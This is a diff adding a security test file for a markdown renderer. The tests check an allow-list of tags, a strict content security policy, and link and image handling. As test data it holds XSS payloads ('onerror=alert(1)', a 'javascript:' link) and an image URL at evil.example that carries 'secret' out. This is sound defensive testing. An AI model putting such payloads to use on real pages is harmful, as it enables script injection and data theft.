@@ -1,0 +1,197 @@
+import { render } from 'lit';
+import { afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { en } from '../../../src/locales/en.ts';
+import { markdownStyles, renderMarkdownText } from '../../../src/markdown/index.ts';
+import { NASTY } from './nasty.ts';
+
+const PNG =
+  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=';
+
+/** Everything that rendered markdown may consist of. */
+const ALLOWED: Readonly<Record<string, readonly string[]>> = {
+  div: ['class', 'tabindex', 'role', 'aria-label'],
+  p: ['class', 'dir'],
+  span: ['class', 'dir', 'role', 'aria-label'],
+  h3: ['dir'],
+  h4: ['dir'],
+  h5: ['dir'],
+  h6: ['dir'],
+  ul: ['dir'],
+  ol: ['dir', 'start'],
+  li: ['class'],
+  pre: ['tabindex', 'role', 'aria-label', 'dir'],
+  code: [],
+  blockquote: ['dir'],
+  table: [],
+  thead: [],
+  tbody: [],
+  tr: [],
+  th: ['class', 'dir', 'scope'],
+  td: ['class', 'dir'],
+  hr: [],
+  br: [],
+  strong: [],
+  em: [],
+  del: [],
+  a: ['href', 'target', 'rel', 'referrerpolicy'],
+  img: ['src', 'alt', 'loading', 'decoding', 'referrerpolicy'],
+};
+const CLASSES = ['markdown', 'plain', 'line', 'task', 'table', 'left', 'center', 'right', 'host', 'image-chip'];
+
+let host: HTMLElement;
+const violations: string[] = [];
+
+beforeAll(() => {
+  // From here on this page is as strict as the strictest host page: a string in an HTML sink throws, a foreign image is reported.
+  const policy = document.createElement('meta');
+  policy.httpEquiv = 'Content-Security-Policy';
+  policy.content =
+    "img-src 'self' data: blob:; object-src 'none'; require-trusted-types-for 'script'; trusted-types lit-html";
+  document.head.append(policy);
+  document.addEventListener('securitypolicyviolation', (event) => {
+    violations.push(`${event.violatedDirective} ${event.blockedURI}`);
+  });
+});
+
+beforeEach(() => {
+  violations.length = 0;
+  host = document.createElement('div');
+  document.body.append(host);
+});
+
+afterEach(() => {
+  host.remove();
+});
+
+function show(text: string, imageOrigins: readonly string[] = []): HTMLElement {
+  render(renderMarkdownText(text, { imageOrigins, strings: en }), host);
+  return host;
+}
+
+/** What is in the tree and not in the list. */
+function strangers(root: Element): string[] {
+  return [...root.querySelectorAll('*')].flatMap((element) => {
+    const name = element.localName;
+    const attributes = ALLOWED[name];
+    if (attributes === undefined || !(element instanceof HTMLElement)) return [`<${name}>`];
+    const strange = element.getAttributeNames().filter((attribute) => !attributes.includes(attribute));
+    const classes = [...element.classList].filter((one) => !CLASSES.includes(one));
+    return [...strange.map((attribute) => `<${name} ${attribute}>`), ...classes.map((one) => `<${name} class=${one}>`)];
+  });
+}
+
+function badAddresses(root: Element): string[] {
+  const links = [...root.querySelectorAll('a')].map((link) => link.getAttribute('href') ?? '');
+  const images = [...root.querySelectorAll('img')].map((image) => image.getAttribute('src') ?? '');
+  return [
+    ...links.filter((href) => !/^(?:https?:\/\/[^@]|mailto:[^?]+$)/.test(href)),
+    ...images.filter((src) => !/^data:image\/(?:png|jpeg|gif|webp);base64,/.test(src)),
+  ];
+}
+
+test('the check itself finds what is not on the list', () => {
+  const section = document.createElement('section');
+  const link = document.createElement('a');
+  link.id = 'x';
+  link.className = 'x';
+  link.href = 'data:x';
+  section.append(link);
+  host.append(section);
+  expect(strangers(host)).toEqual(['<section>', '<a id>', '<a class>', '<a class=x>']);
+  expect(badAddresses(host)).toEqual(['data:x']);
+});
+
+test('the page refuses HTML from strings', () => {
+  expect(() => {
+    Reflect.set(host, ['inner', 'HTML'].join(''), '<b>x</b>');
+  }).toThrow(TypeError);
+});
+
+describe('hostile markdown stays within the list', () => {
+  test.each(NASTY)('%s', (_, text) => {
+    for (const place of [
+      text,
+      `- ${text}`,
+      `> ${text}`,
+      `# ${text}`,
+      `|a|\n|-|\n|${text}|`,
+      `[${text}](https://a.example)`,
+      `![${text}](https://a.example/i.png)`,
+    ]) {
+      const root = show(place);
+      expect(strangers(root)).toEqual([]);
+      expect(badAddresses(root)).toEqual([]);
+      for (const link of root.querySelectorAll('a')) {
+        expect(link.rel).toBe('noopener noreferrer nofollow ugc');
+        expect(link.target).toBe('_blank');
+        expect(link.referrerPolicy).toBe('no-referrer');
+        expect(link.querySelector('a')).toBeNull();
+      }
+    }
+    expect(violations).toEqual([]);
+  });
+});
+
+test('HTML is shown to the reader as it was written', () => {
+  expect(show('<img src=x onerror=alert(1)>').textContent).toBe('<img src=x onerror=alert(1)>');
+});
+
+test('a checked picture is shown, one of a foreign host is named and linked', () => {
+  const root = show(`![ring](${PNG}) ![spy](https://evil.example/?q=secret)`);
+  expect(root.querySelectorAll('img')).toHaveLength(1);
+  expect(root.querySelector('img')?.alt).toBe('ring');
+  const chip = root.querySelector('.image-chip');
+  expect(chip?.textContent).toBe('Picture from evil.example – not loaded · spy');
+  expect(chip?.querySelector('a')?.href).toBe('https://evil.example/?q=secret');
+});
+
+test('a picture of an allowed origin keeps the referrer to itself', () => {
+  const image = show('![a](https://cdn.example/a.png)', ['https://cdn.example']).querySelector('img');
+  expect(image?.getAttribute('src')).toBe('https://cdn.example/a.png');
+  expect(image?.referrerPolicy).toBe('no-referrer');
+});
+
+test('a link says where it leads when its text does not', () => {
+  expect(show('[our shop](https://evil.example/a)').textContent).toBe('our shop (evil.example)');
+  expect(show('https://shop.example/a').textContent).toBe('https://shop.example/a');
+  expect(show('[bad](javascript:alert(1))').textContent).toBe('bad');
+});
+
+test('what hides or turns text is visible', () => {
+  expect(show('a\u202Eb `c\u200Bd`\n\n    e\u{E0041}\u001B[0m').textContent).toBe('a⇄b c◌de␛[0m');
+});
+
+test('a code block can be scrolled by keyboard and keeps its line ends', () => {
+  const pre = show('```js\nif (a < b) {\n\n  c();\n}\n```').querySelector('pre');
+  expect(pre?.textContent).toBe('if (a < b) {\n\n  c();\n}');
+  expect(pre?.tabIndex).toBe(0);
+  expect(pre?.getAttribute('aria-label')).toBe('Code: js');
+});
+
+test('headings begin below that of the panel and leave no level out', () => {
+  const root = show('# a\n\n#### b\n\n# c');
+  expect([...root.querySelectorAll('h3, h4, h5, h6')].map((heading) => heading.localName)).toEqual(['h3', 'h4', 'h3']);
+});
+
+test('the same text rendered again changes nothing on the page', () => {
+  show('a **b**\n\n- c');
+  const observer = new MutationObserver(() => undefined);
+  observer.observe(host, { subtree: true, childList: true, characterData: true, attributes: true });
+  show('a **b**\n\n- c');
+  expect(observer.takeRecords()).toEqual([]);
+});
+
+test('a wide table scrolls in its own box', () => {
+  document.adoptedStyleSheets = [...document.adoptedStyleSheets, ...sheets()];
+  host.style.setProperty('width', '200px');
+  const row = `|${Array.from({ length: 12 }, () => 'wide content').join('|')}|\n`;
+  const box = show(row + row.replaceAll('wide content', '---') + row).querySelector('div.table');
+  expect(box?.scrollWidth).toBeGreaterThan(200);
+  expect(box?.clientWidth).toBeLessThanOrEqual(200);
+  expect(host.scrollWidth).toBeLessThanOrEqual(200);
+});
+
+function sheets(): CSSStyleSheet[] {
+  const sheet = markdownStyles.styleSheet;
+  return sheet === undefined ? [] : [sheet];
+}
